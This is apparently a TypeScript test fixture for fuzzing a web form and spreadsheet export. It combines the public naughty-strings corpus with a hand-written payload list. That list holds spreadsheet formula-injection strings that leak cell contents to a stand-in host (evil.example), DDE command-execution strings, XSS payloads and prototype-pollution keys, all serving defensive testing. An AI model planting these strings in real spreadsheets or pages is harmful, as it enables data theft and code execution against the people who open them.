import { createRequire } from 'node:module';

const blns: unknown = createRequire(import.meta.url)('big-list-of-naughty-strings/blns.json');

/** The public corpus github.com/minimaxir/big-list-of-naughty-strings. */
const corpus: readonly string[] = Array.isArray(blns)
  ? blns.filter((text): text is string => typeof text === 'string')
  : [];

/** What a spreadsheet could take for a formula, a number, a date or code, and what breaks a page or a file. */
export const PAYLOADS: readonly string[] = [
  '=1+1',
  '=IMPORTXML("http://evil.example/"&A1,"//a")',
  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/evil","A1:Z99")',
  '=IMPORTDATA("http://evil.example/?"&B2)',
  '=IMAGE("http://evil.example/"&A2)',
  '=HYPERLINK("http://evil.example?leak="&A1,"Ramos")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '{=SUM(A1:A9)}',
  '+1',
  '+IMPORTXML("http://evil.example","//a")',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1 ',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  "'=1+1",
  "'quoted",
  "''",
  '  leading to trailing  ',
  '<img src=x onerror="window.hostile=1;alert(1)">',
  '</script><script>window.hostile=1;alert(1)</script>',
  '<!-- "><svg onload=window.hostile=1>',
  'javascript:window.hostile=1',
  'راموس، إلينا',
  '\u202eanelE ,somaR',
  '😀 Emoji, Ed',
  '1-2',
  '\u2066hidden\u2069',
  'null\u0000char',
  '\u0007bell\u001b[31m',
  '\ud83d half an emoji',
  'the other half \ude00',
  'carriage\r\n7\r8',
  '_x0041_ for A',
  '0012',
  'TRUE',
  '3/4',
  '1e5',
  '$5',
  '50%',
  '2026-11-21',
  '#REF!',
  '__proto__',
  'constructor',
  `=${'very long, '.repeat(80)}`,
];

/** Everything once. Of texts that are the same without the spaces around them, a roster keeps one. */
const once = (texts: readonly string[]): string[] => {
  const kept = new Map<string, string>();
  for (const text of texts) if (!kept.has(text.trim())) kept.set(text.trim(), text);
  return [...kept.values()];
};

/** All hostile strings. */
export const HOSTILE: readonly string[] = once([...PAYLOADS, ...corpus]);

/** The payloads and every `nth` string of the corpus. */
export const sampled = (nth: number): string[] =>
  HOSTILE.filter((text, i) => PAYLOADS.includes(text) || i % nth === 0);

/** Enough for one district; with more, each call reads a longer record. */
const AT_ONCE = 60;

/** The strings in parts that are numbered from 1. */
export const inParts = (strings: readonly string[]): [number, string[]][] =>
  Array.from({ length: Math.ceil(strings.length / AT_ONCE) }, (_, i) => [
    i + 1,
    strings.slice(i * AT_ONCE, (i + 1) * AT_ONCE),
  ]);

/** What the server makes of a text that a form sends: no control signs, no half of an emoji, nothing around it. */
export const asTyped = (text: string): string =>
  text
    .replace(/\r\n?/g, '\n')
    .replace(/[\p{Cc}\p{Cs}]/gu, (sign) => (sign === '\n' || sign === '\t' ? sign : ''))
    .trim();
